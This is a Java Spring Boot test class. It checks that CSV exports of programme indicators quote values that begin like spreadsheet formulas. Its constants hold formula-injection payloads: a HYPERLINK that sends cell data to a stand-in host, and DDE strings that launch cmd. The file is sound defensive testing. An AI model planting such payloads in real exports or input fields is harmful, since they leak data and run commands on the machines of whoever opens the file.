package org.reach.indicators;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import com.jayway.jsonpath.JsonPath;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.reach.ProgrammeFixture;
import org.reach.accounts.Accounts;
import org.reach.accounts.ApiTokens;
import org.reach.accounts.SignIn;
import org.reach.clients.ClientRegistry;
import org.reach.clients.ClientStatusChanges;
import org.reach.organisations.OrganisationDirectory;
import org.reach.organisations.OrganisationForm;
import org.reach.organisations.Site;
import org.reach.organisations.SiteForm;
import org.reach.platform.ReachUser;
import org.reach.platform.Role;
import org.reach.services.Encounters;
import org.reach.services.Referrals;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.test.web.servlet.MockMvc;

/**
 * A site, a city and an organisation named like spreadsheet formulas reach every CSV export of indicators (the
 * per-table download, the full export from the page and from the API) as text a spreadsheet shows and does not
 * run: a leading single quote before = + - @, while genuine negative numbers stay numbers.
 */
@SpringBootTest
@AutoConfigureMockMvc
class ExportedCsvRunsNoFormulaTest {

    private static final String LINK = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Report\")";
    private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String PLUS = "+1+cmd|' /C calc'!A0";
    private static final String MINUS = "-2+cmd|' /C calc'!A0";

    @Autowired MockMvc mvc;
    @Autowired OrganisationDirectory directory;
    @Autowired Accounts accounts;
    @Autowired SignIn signIn;
    @Autowired ApiTokens tokens;
    @Autowired ClientRegistry clients;
    @Autowired ClientStatusChanges statusChanges;
    @Autowired Encounters encounters;
    @Autowired Referrals referrals;
    @Autowired Indicators indicators;

    private ProgrammeFixture world;
    private String organisation;

    @BeforeEach
    void nameSitesLikeFormulas() {
        world = new ProgrammeFixture(directory, accounts, signIn, tokens);
        ReachUser system = ReachUser.system();
        rename(system, world.homeSite, LINK, PLUS);
        rename(system, world.homeOtherSite, DDE, MINUS);
        organisation = "=HYPERLINK(\"http://evil.example/" + world.marker + "\")";
        directory.updateOrganisation(system, world.home.id(), new OrganisationForm(organisation, world.home.countryCode(),
                world.home.languages(), world.home.programmeId()));
        new IndicatorDataset(world, clients, statusChanges, encounters, referrals, indicators,
                signIn.reload(world.foreignManager.id()).orElseThrow(), signIn.reload(world.foreignPeer.id()).orElseThrow());
    }

    @Test
    void theDownloadOfEachTableQuotesFormulas() throws Exception {
        ReachUser manager = world.user(Role.ORG_MANAGER);
        List<String> cells = new ArrayList<>();
        for (IndicatorDefinition definition : indicators.definitions(manager)) {
            for (Disaggregation d : definition.disaggregations()) {
                cells.addAll(cells(mvc.perform(get("/indicators/export.csv").param("indicator", definition.code())
                                .param("period", "2026Q1").param("disaggregation", d.name()).with(user(manager)))
                        .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8)));
            }
        }
        assertInert(cells, LINK, DDE, PLUS, MINUS);
    }

    @Test
    void theFullExportFromTheApiQuotesFormulas() throws Exception {
        String token = world.token(Role.ORG_MANAGER);
        String location = mvc.perform(post("/api/indicators/exports").param("period", "2026Q1").param("format", "csv")
                        .header("Authorization", "Bearer " + token))
                .andExpect(status().isAccepted()).andReturn().getResponse().getHeader("Location");
        for (int i = 0; i < 600; i++) {
            String state = JsonPath.read(mvc.perform(get(location).header("Authorization", "Bearer " + token))
                    .andReturn().getResponse().getContentAsString(), "$.state");
            if (!"RUNNING".equals(state)) {
                break;
            }
            Thread.sleep(50);
        }
        String csv = mvc.perform(get(location + "/file").header("Authorization", "Bearer " + token))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertInert(cells(csv), LINK, DDE, PLUS, MINUS);
    }

    @Test
    void theCoordinatorsFullExportFromThePageQuotesFormulas() throws Exception {
        ReachUser coordinator = world.user(Role.COORDINATOR);
        String redirect = mvc.perform(post("/indicators/exports").param("period", "2026Q1").param("format", "CSV")
                        .param("programmeId", String.valueOf(world.homeProgramme.id()))
                        .with(user(coordinator)).with(csrf()))
                .andExpect(status().is3xxRedirection()).andReturn().getResponse().getRedirectedUrl();
        String fragment = "";
        for (int i = 0; i < 600 && !fragment.contains("data-state=\"SUCCEEDED\""); i++) {
            Thread.sleep(50);
            fragment = mvc.perform(get(redirect).header("HX-Request", "true").with(user(coordinator)))
                    .andReturn().getResponse().getContentAsString();
        }
        String csv = mvc.perform(get(redirect + "/file").with(user(coordinator))).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        // The coordinator sees the programme by organisation: the organisation's name is the formula.
        assertInert(cells(csv), organisation);
    }

    private void rename(ReachUser system, Site site, String name, String city) {
        directory.updateSite(system, site.id(), new SiteForm(site.organisationId(), name, site.type(), site.area(), city,
                site.latitude(), site.longitude(), site.openingStatus()));
    }

    private static List<String> cells(String csv) throws Exception {
        List<String> cells = new ArrayList<>();
        for (CSVRecord record : CSVFormat.DEFAULT.parse(new StringReader(csv)).getRecords()) {
            cells.addAll(record.toList());
        }
        return cells;
    }

    /** Every planted name is there with its quote, and no cell would run in a spreadsheet. */
    private static void assertInert(List<String> cells, String... planted) {
        for (String name : planted) {
            assertThat(cells).as("the export holds " + name).contains("'" + name).doesNotContain(name);
        }
        for (String cell : cells) {
            if (cell.isEmpty()) {
                continue;
            }
            char first = cell.charAt(0);
            if (first == '-') {
                assertThat(cell).as("a cell starting with a minus is a number").matches("-\\d+(\\.\\d+)?");
            } else {
                assertThat("=+@\t\r".indexOf(first)).as("a cell a spreadsheet would run: " + cell).isNegative();
            }
        }
    }
}
